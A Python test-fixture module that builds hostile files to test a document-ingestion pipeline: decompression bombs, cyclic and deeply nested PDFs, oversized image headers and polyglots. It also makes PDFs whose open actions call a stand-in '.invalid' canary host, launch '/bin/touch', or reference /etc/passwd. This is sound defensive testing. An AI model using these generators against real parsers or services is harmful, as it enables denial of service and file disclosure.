"""Files built to harm: small on disk, huge, endless or lively once somebody opens them. All of our own making.

`write_all` writes them into a folder; `BOMBS` tells of each what may become of it. Nothing here is ever run: the
scripts and programs that they name do not exist.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, String
from PIL import Image

from tests.fakes.paper import lab_report

GIB = 1 << 30
CANARY = "hostile-canary"


@dataclass(frozen=True, slots=True, kw_only=True)
class Bomb:
    """One file: its name, its bytes, the states that its documents may end in, and the flag that must tell of it.

    `slow` ones may use up their time limits before they end.
    """

    name: str
    make: Callable[[], bytes]
    states: frozenset[str]
    flag: str | None = None
    slow: bool = False


# ---- data that inflates -----------------------------------------------------------------------------------------


def deflated(unit: bytes, size: int, head: bytes = b"") -> bytes:
    """A whole zlib stream that inflates to `head` and `unit` over and over, at least `size` bytes of that.

    It is made without inflating it.
    """
    block = unit * max(1, (1 << 20) // len(unit))
    times = -(-size // len(block))
    check, one = zlib.adler32(head), zlib.adler32(block)
    for _ in range(times):
        check = _adler_of_both(check, one, len(block))
    return b"\x78\xda" + _piece(head) + _piece(block) * times + b"\x03\x00" + struct.pack(">I", check)


def _piece(data: bytes) -> bytes:
    """Such pieces stand alone: they may be repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)


def _adler_of_both(first: int, second: int, second_length: int) -> int:
    base = 65521
    a1, b1, a2, b2 = first & 0xFFFF, first >> 16, second & 0xFFFF, second >> 16
    a = (a1 + a2 - 1) % base
    b = (b1 + b2 + (a1 - 1) * second_length) % base
    return b << 16 | a


# ---- PDF --------------------------------------------------------------------------------------------------------


def pdf_of(objects: Sequence[bytes], *, root: int = 1) -> bytes:
    """A PDF of these objects (numbers from 1), with a sound table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_LETTER = b"[0 0 612 792]"


def one_page(contents: bytes, resources: bytes = b"<< >>", *more: bytes, box: bytes = _LETTER) -> bytes:
    """A PDF of one page: its content is object 4, `more` are objects 5 and on."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources %s >>" % (box, resources)
    return pdf_of([_CATALOG, _TREE, page, contents, *more])


def _content_bomb(unit: bytes, size: int) -> bytes:
    return one_page(stream(deflated(unit, size), b"/Filter /FlateDecode"))


def _twice_packed_content() -> bytes:
    return one_page(stream(zlib.compress(deflated(b" ", 8 * GIB), 9), b"/Filter [/FlateDecode /FlateDecode]"))


def _image_page(image: bytes) -> bytes:
    return one_page(stream(b"q 612 0 0 792 0 0 cm /Im0 Do Q"), b"<< /XObject << /Im0 5 0 R >> >>", image)


def _image(width: int, height: int, data: bytes, entries: bytes = b"/Filter /FlateDecode", bits: int = 8) -> bytes:
    told = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent %d "
    return stream(data, told % (width, height, bits) + entries)


def _image_bomb(side: int, inflated: int) -> bytes:
    return _image_page(_image(side, side, deflated(b"\0", inflated)))


def _many_filters() -> bytes:
    data = b"0 0 9 9 re f"
    for _ in range(200):
        data = zlib.compress(data)
    return one_page(stream(data, b"/Filter [" + b"/FlateDecode " * 200 + b"]"))


def _hex_filters() -> bytes:
    return one_page(stream(b"30" * 1000 + b">", b"/Filter [" + b"/ASCIIHexDecode " * 100_000 + b"]"))


def _tree_cycle() -> bytes:
    return pdf_of([_CATALOG, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>", _blank_page(2)])


def _tree_of_two_that_hold_each_other() -> bytes:
    return pdf_of(
        [
            _CATALOG,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 /Parent 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>",
        ]
    )


def _deep_tree() -> bytes:
    depth = 50_000
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 3) for number in range(depth)]
    return pdf_of([_CATALOG, *nodes, _blank_page(depth + 1)])


def _blank_page(parent: int) -> bytes:
    return b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % parent


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return pdf_of([_CATALOG, tree, *[_blank_page(2)] * count])


def _one_page_many_times(count: int) -> bytes:
    return pdf_of([_CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count), _blank_page(2)])


def _count_that_lies(count: int) -> bytes:
    return pdf_of([_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count, _blank_page(2)])


def _object_stream_bomb() -> bytes:
    """The catalog lies in an object stream that inflates to gigabytes."""
    head = b"1 0 "
    body = head + b"<< /Type /Catalog /Pages 2 0 R >>"
    packer = zlib.compressobj(9)
    packed = packer.compress(body) + packer.compress(b" " * (1 << 30)) + packer.flush()
    objects = b"%PDF-1.7\n"
    holder = len(objects)
    told = b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(head)
    objects += b"5 0 obj\n" + stream(packed, told) + b"\nendobj\n"
    tree = len(objects)
    objects += b"2 0 obj\n" + _TREE + b"\nendobj\n"
    page = len(objects)
    objects += b"3 0 obj\n" + _blank_page(2) + b"\nendobj\n"
    start = len(objects)
    rows = [(0, 0, 0), (2, 5, 0), (1, tree, 0), (1, page, 0), (0, 0, 0), (1, holder, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    objects += b"6 0 obj\n" + stream(table, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return objects + b"startxref\n%d\n%%%%EOF\n" % start


def _object_streams(count: int, inflated: int) -> bytes:
    """Each page lies in an object stream of its own that inflates to so much: to count them takes seconds."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    plain = [_CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    out, rows = b"%PDF-1.7\n", [(0, 0, 0)]
    for number, body in enumerate(plain, 1):
        rows.append((1, len(out), 0))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows += [(2, number + 3 + count, 0) for number in range(count)]
    for number in range(3, count + 3):
        head = b"%d 0 " % number
        rows.append((1, len(out), 0))
        told = b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(head)
        packed = deflated(b" ", inflated, head + _blank_page(2))
        out += b"%d 0 obj\n" % (number + count) + stream(packed, told) + b"\nendobj\n"
    last, start = 2 * count + 3, len(out)
    rows.append((1, start, 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    told = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (last + 1)
    return out + b"%d 0 obj\n" % last + stream(table, told) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def _huge_table() -> bytes:
    """A cross reference stream that announces two thousand million objects."""
    body = b"%PDF-1.7\n"
    told = b"/Type /XRef /Size 2000000000 /W [1 4 2] /Index [0 2000000000] /Root 1 0 R /Filter /FlateDecode"
    return body + b"1 0 obj\n" + stream(deflated(b"\0", GIB), told) + b"\nendobj\nstartxref\n9\n%%EOF\n"


def _deep_nesting(opened: bytes, closed: bytes) -> bytes:
    return pdf_of([_CATALOG + b"", _TREE, _blank_page(2), opened * 200_000 + closed * 200_000])


def _deep_nesting_in_catalog() -> bytes:
    hidden = b"[" * 200_000 + b"]" * 200_000
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R /Hidden %s >>" % hidden, _TREE, _blank_page(2)])


def _forms_that_draw_themselves() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Fm0 5 0 R >> >>"
    return one_page(stream(b"/Fm0 Do"), b"<< /XObject << /Fm0 5 0 R >> >>", stream(b"0 0 9 9 re f /Fm0 Do", form))


def _forms_that_laugh() -> bytes:
    """Each of ten forms draws the next ten times: ten thousand million drawings in three kilobytes."""
    forms = []
    for level in range(10):
        inner = b"/Resources << /XObject << /Fm 5 0 R >> >>".replace(b"5 0", b"%d 0" % (level + 6))
        told = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] " + (inner if level < 9 else b"")
        forms.append(stream(b"/Fm Do " * 10 if level < 9 else b"0 0 300 300 re f", told))
    return one_page(stream(b"/Fm Do"), b"<< /XObject << /Fm 5 0 R >> >>", *forms)


def _fine_tiling() -> bytes:
    pattern = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.001 /YStep 0.001"
    drawn = stream(b"0 0 9 9 re f", pattern + b" /Resources << >>")
    return one_page(stream(b"/Pattern cs /P scn 0 0 612 792 re f"), b"<< /Pattern << /P 5 0 R >> >>", drawn)


def _deep_saves() -> bytes:
    return one_page(stream(zlib.compress(b"q " * 3_000_000, 9), b"/Filter /FlateDecode"))


def _paper(box: bytes) -> bytes:
    return one_page(stream(b"0 0 9 9 re f"), box=box)


def _jpeg_that_is_larger_than_its_page_says() -> bytes:
    return _image_page(_image(100, 100, huge_jpeg(), b"/Filter /DCTDecode"))


# ---- PDFs that would act ----------------------------------------------------------------------------------------


def _report_pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    picture, out = io.BytesIO(), io.BytesIO()
    lab_report("OKAFOR, CHIDI", "07/25/1984", "00455550").save(picture, "PDF", resolution=150)
    with pikepdf.open(picture) as pdf:
        if change is not None:
            change(pdf)
        pdf.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def _script_on_opening(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('http://{CANARY}.invalid')"))


def _launch_on_page(pdf: pikepdf.Pdf) -> None:
    touch = Dictionary(S=Name.Launch, F=String(f"/bin/touch {CANARY}"), NewWindow=True)
    pdf.pages[0].obj.AA = Dictionary(O=touch)
    pdf.Root.OpenAction = touch


def _embedded(pdf: pikepdf.Pdf) -> None:
    pdf.attachments[f"{CANARY}.exe"] = b"MZ" + bytes(1000)


def _submits(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String(f"http://{CANARY}.invalid"))


def _reads_another_file(pdf: pikepdf.Pdf) -> None:
    """Its second stream says that its bytes are those of /etc/passwd."""
    outside = pdf.make_stream(b"")
    outside.F = String("/etc/passwd")
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, outside])


# ---- pictures ---------------------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk with its length and checksum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes, *extra: bytes, bits: int = 8, colour: int = 0) -> bytes:
    """A PNG whose picture data are these zlib bytes, whatever they inflate to."""
    header = png_chunk(b"IHDR", struct.pack(">II5B", width, height, bits, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


def huge_jpeg(side: int = 65_500) -> bytes:
    """A small JPEG whose header says `side` x `side`."""
    out = io.BytesIO()
    Image.new("L", (64, 64), 200).save(out, "JPEG")
    data = bytearray(out.getvalue())
    frame = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, frame + 5, side, side)
    return bytes(data)


def _grey_jpeg(side: int) -> bytes:
    out = io.BytesIO()
    Image.new("L", (side, side), 200).save(out, "JPEG", quality=20)
    return out.getvalue()


def _jpeg_of_many_scans() -> bytes:
    """A progressive JPEG whose last scan comes twenty thousand times more."""
    out = io.BytesIO()
    Image.new("L", (6000, 6000), 200).save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * 20_000 + data[-2:]


def tiff_frame(tags: dict[int, tuple[int, int, int]], following: int) -> bytes:
    """One directory: tag → (type, count, value); `following` is where the next one stands."""
    entries = b"".join(struct.pack("<HHII", tag, *tags[tag]) for tag in sorted(tags))
    return struct.pack("<H", len(tags)) + entries + struct.pack("<I", following)


def _tags(width: int, height: int, **more: int) -> dict[int, tuple[int, int, int]]:
    return {
        256: (4, 1, width),
        257: (4, 1, height),
        258: (3, 1, 1),
        259: (3, 1, more.get("packed", 1)),
        262: (3, 1, 0),
        273: (4, 1, 8),
        277: (3, 1, 1),
        278: (4, 1, height),
        279: (4, 1, more.get("strip", 0)),
    }


def _tiff(directories: Sequence[tuple[int, dict[int, tuple[int, int, int]]]], data: bytes = b"") -> bytes:
    """`directories`: index of the following one (-1: none), tags. All have one size."""
    out = bytearray(b"II*\0" + struct.pack("<I", 8 + len(data)) + data)
    size = 2 + 12 * 9 + 4
    for following, tags in directories:
        after = 0 if following < 0 else 8 + len(data) + following * size
        out += tiff_frame(tags, after)
    return bytes(out)


def _tiff_loop() -> bytes:
    return _tiff(
        [(1, _tags(64, 64, strip=512)), (2, _tags(64, 64, strip=512)), (0, _tags(64, 64, strip=512))], bytes(512)
    )


def _tiff_many_frames(count: int) -> bytes:
    frames = [(number + 1, _tags(8, 8, strip=8)) for number in range(count - 1)]
    return _tiff([*frames, (-1, _tags(8, 8, strip=8))], bytes(8))


def _tiff_huge(side: int) -> bytes:
    return _tiff([(-1, _tags(side, side, strip=8))], bytes(8))


def _tiff_that_inflates(side: int) -> bytes:
    data = deflated(b"\0", max(side * side // 8, GIB))
    return _tiff([(-1, _tags(side, side, packed=8, strip=len(data)))], data)


def _picture(form: str, **how: object) -> bytes:
    out = io.BytesIO()
    lab_report("OKAFOR, CHIDI", "07/25/1984", "00455550").save(out, form, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _cut(data: bytes) -> bytes:
    return data[: len(data) // 2]


# ---- files that are two things ----------------------------------------------------------------------------------


def _jpeg_with_pdf() -> bytes:
    """A JPEG whose comment is a PDF."""
    body = _report_pdf(_script_on_opening)[:60_000]
    picture = _picture("JPEG")
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + picture[2:]


def _page_of_script() -> bytes:
    return b"<html><script>alert(1)</script><!--\n" + _report_pdf() + b"\n--></html>"


def _archive_behind_pdf() -> bytes:
    return _report_pdf() + b"PK\x03\x04" + bytes(2000) + b"PK\x05\x06" + bytes(18)


_END = frozenset({"filed", "review", "blank", "quarantined", "duplicate", "separator"})
_REFUSED = frozenset({"quarantined"})
_FILED = frozenset({"filed"})
_REACHED = frozenset({"filed", "review"})

BOMBS = (
    Bomb(name="content-spaces.pdf", make=lambda: _content_bomb(b" ", 6 * GIB), states=_END, slow=True),
    Bomb(name="content-strokes.pdf", make=lambda: _content_bomb(b"0 0 m 9 9 l S ", GIB), states=_END, slow=True),
    Bomb(name="content-packed-twice.pdf", make=_twice_packed_content, states=_END, slow=True),
    Bomb(name="image-huge.pdf", make=lambda: _image_bomb(60_000, 1 << 20), states=_REFUSED),
    Bomb(name="image-inflates.pdf", make=lambda: _image_bomb(100, 6 * GIB), states=_END, slow=True),
    Bomb(
        name="image-at-the-limit.pdf",
        make=lambda: _image_page(_image(12_000, 12_000, deflated(b"\x7f", 12_000 * 12_000))),
        states=_END,
        slow=True,
    ),
    Bomb(name="filters-200.pdf", make=_many_filters, states=_END),
    Bomb(name="filters-hex.pdf", make=_hex_filters, states=_END, slow=True),
    Bomb(name="tree-cycle.pdf", make=_tree_cycle, states=_END),
    Bomb(name="tree-two.pdf", make=_tree_of_two_that_hold_each_other, states=_REFUSED),
    Bomb(name="tree-deep.pdf", make=_deep_tree, states=_END),
    Bomb(name="pages-100000.pdf", make=lambda: _many_pages(100_000), states=_REFUSED),
    Bomb(name="pages-one-100000.pdf", make=lambda: _one_page_many_times(100_000), states=_REFUSED),
    Bomb(name="count-lies.pdf", make=lambda: _count_that_lies(2_000_000_000), states=_REFUSED),
    Bomb(name="count-below.pdf", make=lambda: _count_that_lies(-5), states=_END),
    Bomb(name="object-stream.pdf", make=_object_stream_bomb, states=_END, slow=True),
    Bomb(name="object-streams.pdf", make=lambda: _object_streams(60, 300 << 20), states=_END, slow=True),
    Bomb(name="table-huge.pdf", make=_huge_table, states=_REFUSED, slow=True),
    Bomb(name="nesting-arrays.pdf", make=lambda: _deep_nesting(b"[", b"]"), states=_END),
    Bomb(name="nesting-dictionaries.pdf", make=lambda: _deep_nesting(b"<</A", b">>"), states=_END),
    Bomb(name="nesting-catalog.pdf", make=_deep_nesting_in_catalog, states=_END),
    Bomb(name="form-itself.pdf", make=_forms_that_draw_themselves, states=_END),
    Bomb(name="form-laughs.pdf", make=_forms_that_laugh, states=_END, slow=True),
    Bomb(name="tiling-fine.pdf", make=_fine_tiling, states=_END, slow=True),
    Bomb(name="saves-deep.pdf", make=_deep_saves, states=_END, slow=True),
    Bomb(name="paper-huge.pdf", make=lambda: _paper(b"[0 0 99999999 99999999]"), states=_REFUSED),
    Bomb(name="paper-none.pdf", make=lambda: _paper(b"[0 0 0 0]"), states=_END),
    Bomb(name="paper-beyond.pdf", make=lambda: _paper(b"[-1e300 nan 1e300 /X]"), states=_END),
    Bomb(name="paper-thin.pdf", make=lambda: _paper(b"[0 0 14400 0.01]"), states=_END),
    Bomb(name="jpeg-in-pdf.pdf", make=_jpeg_that_is_larger_than_its_page_says, states=_END),
    Bomb(name="script.pdf", make=lambda: _report_pdf(_script_on_opening), states=_FILED, flag="active_content"),
    Bomb(name="launch.pdf", make=lambda: _report_pdf(_launch_on_page), states=_FILED, flag="active_content"),
    Bomb(name="embedded.pdf", make=lambda: _report_pdf(_embedded), states=_FILED, flag="active_content"),
    Bomb(name="submits.pdf", make=lambda: _report_pdf(_submits), states=_FILED, flag="active_content"),
    Bomb(name="outside.pdf", make=lambda: _report_pdf(_reads_another_file), states=_END),
    Bomb(
        name="locked-unknown.pdf",
        make=lambda: _report_pdf(encryption=Encryption(user="unknown", owner="boss", R=6)),
        states=_REFUSED,
    ),
    Bomb(
        name="locked-known.pdf",
        make=lambda: _report_pdf(encryption=Encryption(user=CANARY, owner="boss", R=6)),
        states=_FILED,
    ),
    Bomb(name="png-header.png", make=lambda: png(2**31 - 1, 2**31 - 1, deflated(b"\0", 1 << 20)), states=_REFUSED),
    Bomb(name="png-wide.png", make=lambda: png(50_000, 50_000, deflated(b"\0", 1 << 20)), states=_REFUSED),
    Bomb(name="png-inflates.png", make=lambda: png(100, 100, deflated(b"\0", 6 * GIB)), states=_END, slow=True),
    Bomb(name="png-text.png", make=lambda: png(9, 9, zlib.compress(bytes(90)), _text_chunk()), states=_END),
    Bomb(name="png-profile.png", make=lambda: png(9, 9, zlib.compress(bytes(90)), _profile_chunk()), states=_END),
    Bomb(
        name="png-at-the-limit.png",
        make=lambda: png(12_000, 12_000, deflated(b"\0" * 96_001, 96_001 * 12_000), bits=16, colour=6),
        states=_END,
        slow=True,
    ),
    Bomb(name="tiff-loop.tif", make=_tiff_loop, states=_END),
    Bomb(name="tiff-frames.tif", make=lambda: _tiff_many_frames(100_000), states=_REFUSED),
    Bomb(name="tiff-huge.tif", make=lambda: _tiff_huge(2**31 - 1), states=_REFUSED),
    Bomb(name="tiff-wide.tif", make=lambda: _tiff_huge(60_000), states=_REFUSED),
    Bomb(name="tiff-inflates.tif", make=lambda: _tiff_that_inflates(100), states=_END),
    Bomb(name="tiff-at-the-limit.tif", make=lambda: _tiff_that_inflates(12_000), states=_END, slow=True),
    Bomb(name="jpeg-huge.jpg", make=huge_jpeg, states=_REFUSED),
    Bomb(name="jpeg-lies.jpg", make=lambda: huge_jpeg(12_000), states=_END, slow=True),
    Bomb(name="jpeg-at-the-limit.jpg", make=lambda: _grey_jpeg(12_000), states=_END, slow=True),
    Bomb(name="jpeg-scans.jpg", make=_jpeg_of_many_scans, states=_END, slow=True),
    Bomb(name="cut.pdf", make=lambda: _cut(_report_pdf()), states=_REFUSED),
    Bomb(name="cut.png", make=lambda: _cut(_picture("PNG")), states=_REFUSED),
    Bomb(name="cut.jpg", make=lambda: _cut(_picture("JPEG")), states=_REFUSED),
    Bomb(name="cut.tif", make=lambda: _cut(_picture("TIFF")), states=_REFUSED),
    Bomb(name="empty.pdf", make=lambda: b"", states=_REFUSED),
    Bomb(name="text.pdf", make=lambda: b"Dear colleague, this is no PDF.\n" * 40, states=_REFUSED),
    Bomb(name="only-a-header.pdf", make=lambda: b"%PDF-1.7\n", states=_REFUSED),
    Bomb(name="two-things.jpg", make=_jpeg_with_pdf, states=_REACHED),
    Bomb(name="two-things.pdf", make=_page_of_script, states=_END),
    Bomb(name="two-things.zip.pdf", make=_archive_behind_pdf, states=_END),
)  # fmt: skip


def _text_chunk() -> bytes:
    return png_chunk(b"zTXt", b"Comment\0\0" + deflated(b"x", GIB))


def _profile_chunk() -> bytes:
    return png_chunk(b"iCCP", b"profile\0\0" + deflated(b"x", GIB))


def write_all(folder: Path, *, slow: bool = True) -> tuple[Bomb, ...]:
    """Writes the bombs (without `slow`, only those that end at once) into `folder`; those that it wrote."""
    folder.mkdir(parents=True, exist_ok=True)
    written = tuple(bomb for bomb in BOMBS if slow or not bomb.slow)
    for bomb in written:
        (folder / bomb.name).write_bytes(bomb.make())
    return written
